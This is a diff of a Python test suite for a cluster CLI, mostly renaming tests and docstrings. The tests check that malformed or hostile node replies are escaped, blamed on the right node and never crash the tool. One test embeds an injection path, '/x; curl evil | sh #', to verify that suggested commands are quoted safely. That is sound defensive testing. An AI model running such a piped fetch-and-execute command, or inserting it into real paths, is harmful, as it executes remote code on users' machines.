@@ -1,4 +1,4 @@
-"""A node whose agent was replaced answers what it likes: the others are shown, and no terminal is harmed."""
+"""A node with a replaced agent can answer anything: the other nodes are shown, and no terminal is harmed."""
 
 from __future__ import annotations
 
@@ -33,7 +33,7 @@ OUTPUTS = [{**TRAINER, "lines": [[1.7e9, "ValueError: x"]]}]
 
 
 def answer(node: int, request: dict[str, Any], **more: Any) -> Iterator[bytes]:
-    """What an honest agent of `node` says, but for `more` in its status."""
+    """Return the answer of an honest agent of `node`, with `more` in its status."""
     operation = request["op"]
     if operation == "status":
         return lines({"done": status(node, **more)})
@@ -42,8 +42,15 @@ def answer(node: int, request: dict[str, Any], **more: Any) -> Iterator[bytes]:
     if operation == "stop":
         return lines({"done": STOPPED})
     if operation == "story":
-        told = {"events": EVENTS, "outputs": OUTPUTS, "seen": 1.7e9, "booted": None, "free_bytes": 1, "python": "3.11"}
-        return lines(*CLOCK, {"done": {**status(node), **told}})
+        report = {
+            "events": EVENTS,
+            "outputs": OUTPUTS,
+            "seen": 1.7e9,
+            "booted": None,
+            "free_bytes": 1,
+            "python": "3.11",
+        }
+        return lines(*CLOCK, {"done": {**status(node), **report}})
     if operation in ("logs", "follow"):
         streams = {"run": "0001", "streams": [{"role": "trainer", "rank": node, "at": 0}]}
         done = {"node": status(node, state="stopped"), "at": 0}
@@ -56,7 +63,7 @@ def honest(node: int) -> Any:
 
 
 def changed(value: Any, junk: Any) -> Iterator[Any]:
-    """The value with one part after the other replaced."""
+    """Yield the value with each of its parts replaced in turn."""
     yield junk
     keys = value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
     for key in keys:
@@ -66,30 +73,30 @@ def changed(value: Any, junk: Any) -> Iterator[Any]:
             yield new
 
 
-def test_of_answers_that_make_no_sense_all_are_told_by_node_and_hide_nobody(liars: Liars) -> None:
-    """Every part of every answer, replaced by many things."""
+def test_malformed_answers_are_reported_by_node_and_hide_no_other_node(liars: Liars) -> None:
+    """Replace every part of every answer by many things."""
     liars.answers["node0"] = honest(0)
-    tried = 0
+    attempts = 0
     for operation in ("status", "jobs", "stop", "story"):
         command = {"stop": ("stop", JOB), "story": ("why",)}.get(operation, (operation,))
         *before, last = answer(1, {"op": operation})
         whole = json.loads(last)
         for index, junk in enumerate(JUNK):
             for wrong in itertools.islice(changed(whole, junk), index % 3, None, 3):
-                said = b"".join([*before, json.dumps(wrong).encode() + b"\n"])
-                liars.answers["node1"] = lambda request, said=said, only=operation: (
-                    iter([said]) if request["op"] == only else answer(1, request)
+                reply = b"".join([*before, json.dumps(wrong).encode() + b"\n"])
+                liars.answers["node1"] = lambda request, reply=reply, only=operation: (
+                    iter([reply]) if request["op"] == only else answer(1, request)
                 )
                 code, out, err = liars.run(*command)
-                assert "Traceback" not in err, (said, err)
-                assert code in (0, 2, 3, 4), (said, code, err)
-                assert (JOB if code == 0 or operation != "stop" else "node1") in out + err, (said, out, err)
-                assert is_harmless(out + err), said
-                tried += 1
-    assert tried > 200
+                assert "Traceback" not in err, (reply, err)
+                assert code in (0, 2, 3, 4), (reply, code, err)
+                assert (JOB if code == 0 or operation != "stop" else "node1") in out + err, (reply, out, err)
+                assert is_harmless(out + err), reply
+                attempts += 1
+    assert attempts > 200
 
 
-def test_logs_of_a_node_that_lies_are_its_own_trouble(liars: Liars) -> None:
+def test_malformed_logs_are_an_error_of_their_node_only(liars: Liars) -> None:
     liars.answers["node0"] = honest(0)
     commands = itertools.cycle([("logs",), ("logs", "--fold"), ("logs", "-f"), ("logs", "--json"), ("logs", "-f")])
     for junk in JUNK:
@@ -112,17 +119,17 @@ def test_logs_of_a_node_that_lies_are_its_own_trouble(liars: Liars) -> None:
 
 
 @pytest.mark.parametrize("options", [(), ("--json",), ("--verbose",)])
-def test_no_word_of_a_node_reaches_a_terminal_as_it_is(liars: Liars, options: tuple[str, ...]) -> None:
-    told = status(
+def test_no_text_of_a_node_reaches_a_terminal_unescaped(liars: Liars, options: tuple[str, ...]) -> None:
+    reported = status(
         1, state="failed", ended=ENDED, mode=EVIL, dir=EVIL, last_event={"event": EVIL}, left_out=[], phase=EVIL
     )
-    told["processes"] = [process("pserver", 1, state=EVIL, tables=[{"name": EVIL, "rows": 1, "bytes": 1}])]
-    told["members"] = [1, 0]  # so that it leads
+    reported["processes"] = [process("pserver", 1, state=EVIL, tables=[{"name": EVIL, "rows": 1, "bytes": 1}])]
+    reported["members"] = [1, 0]  # so that it is the lead
     failing = {"error": {"kind": "node", "message": EVIL, "hint": EVIL, "details": {"more": EVIL}}}
     row = [1.7e9, 0, f"{EVIL}\r{EVIL}", 7]
     job = {"job": JOB, "dir": EVIL, "record": {**RECORD, "workspace": EVIL, "content": EVIL}, "runs": [RUN]}
     says = {
-        "status": lambda: lines({"done": told}),
+        "status": lambda: lines({"done": reported}),
         "jobs": lambda: lines({"done": {"jobs": [job]}}),
         "logs": lambda: lines(STREAMS, {"lines": [row]}, failing),
         "follow": lambda: lines(STREAMS, {"lines": [row]}, failing),
@@ -153,7 +160,7 @@ def test_no_word_of_a_node_reaches_a_terminal_as_it_is(liars: Liars, options: tu
             assert out.isascii(), command
 
 
-def test_rubbish_in_place_of_an_answer_is_quoted_harmlessly(liars: Liars) -> None:
+def test_garbage_in_place_of_an_answer_is_quoted_harmlessly(liars: Liars) -> None:
     rubbish = [
         EVIL.encode(errors="surrogatepass"),
         b"[]",
@@ -174,7 +181,7 @@ def test_rubbish_in_place_of_an_answer_is_quoted_harmlessly(liars: Liars) -> Non
         assert is_harmless(out + err)
 
 
-def test_a_mistake_in_the_program_does_not_print_what_a_node_said_as_it_is(
+def test_a_bug_in_the_program_does_not_print_text_of_a_node_unescaped(
     liars: Liars, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def mistaken(*_: object) -> None:
@@ -188,7 +195,7 @@ def test_a_mistake_in_the_program_does_not_print_what_a_node_said_as_it_is(
     assert is_harmless(out + err)
 
 
-def test_an_error_of_a_node_is_no_longer_than_a_page(liars: Liars) -> None:
+def test_an_error_of_a_node_is_at_most_a_page_long(liars: Liars) -> None:
     liars.answers["node0"] = liars.answers["node1"] = lambda request: lines(
         {"error": {"kind": "x", "message": "m" * 10**6}}
     )
@@ -197,39 +204,39 @@ def test_an_error_of_a_node_is_no_longer_than_a_page(liars: Liars) -> None:
     assert len(err) < 20_000
 
 
-def told(*events: dict[str, Any], **more: Any) -> Any:
-    """An agent whose story of a failed run has these events."""
-    found = {"events": events, "outputs": [], "seen": 1.7e9, "booted": None, "free_bytes": 1, "python": "3.11"}
+def failed_run(*events: dict[str, Any], **more: Any) -> Any:
+    """An agent that reports these events of a failed run."""
+    facts = {"events": events, "outputs": [], "seen": 1.7e9, "booted": None, "free_bytes": 1, "python": "3.11"}
     return lambda request: (
-        lines(*CLOCK, {"done": {**status(1, state="failed"), **found, **more}})
+        lines(*CLOCK, {"done": {**status(1, state="failed"), **facts, **more}})
         if request["op"] == "story"
         else answer(1, request, ended=ENDED, state="failed")
     )
 
 
 @pytest.mark.parametrize("half", [{"role": "trainer"}, {"rank": 1}, {"role": EVIL, "rank": None}])
-def test_a_cause_that_names_half_a_process_does_not_take_why_along(liars: Liars, half: dict[str, Any]) -> None:
+def test_a_cause_with_an_incomplete_process_does_not_crash_why(liars: Liars, half: dict[str, Any]) -> None:
     cause = {"kind": "node", "message": "m", "node": 1, **half}
     ended = {**AT, "event": "ended", "state": "failed", "cause": cause, "not_heard_of": []}
-    liars.answers["node0"] = told({**EVENTS[2], "cause": cause}, ended)  # it leads
-    liars.answers["node1"] = told(*EVENTS)
+    liars.answers["node0"] = failed_run({**EVENTS[2], "cause": cause}, ended)  # it is the lead
+    liars.answers["node1"] = failed_run(*EVENTS)
     code, out, err = liars.run("why")
     assert (code, "Traceback" in err) == (0, False), err
     assert "first cause: trainer1@" in out
 
 
-def test_advice_that_names_a_path_cannot_be_pasted_into_mischief(liars: Liars) -> None:
+def test_suggested_commands_with_paths_can_be_pasted_safely(liars: Liars) -> None:
     last = "FileNotFoundError: [Errno 2] No such file or directory: '/x; curl evil | sh #'"
     outputs = [{**TRAINER, "lines": [[1.7e9, "Traceback (most recent call last):"], [1.7e9, last]]}]
-    liars.answers["node0"] = liars.answers["node1"] = told(*EVENTS, outputs=outputs)
+    liars.answers["node0"] = liars.answers["node1"] = failed_run(*EVENTS, outputs=outputs)
     _, out, _ = liars.run("why")
     assert "ls -ld '/x; curl evil | sh #'\n" in out
 
 
-def test_a_story_with_lines_longer_than_any_is_none(liars: Liars) -> None:
+def test_an_answer_to_why_with_overlong_lines_is_refused(liars: Liars) -> None:
     outputs = [{**TRAINER, "lines": [[1.7e9, "x" * (1 << 17)]]}]
-    liars.answers["node0"] = told(*EVENTS)
-    liars.answers["node1"] = told(*EVENTS, outputs=outputs)
+    liars.answers["node0"] = failed_run(*EVENTS)
+    liars.answers["node1"] = failed_run(*EVENTS, outputs=outputs)
     code, out, err = liars.run("why")
     assert (code, "node1: its answer is malformed" in err) == (3, True)
     assert "first cause: trainer1@" in out
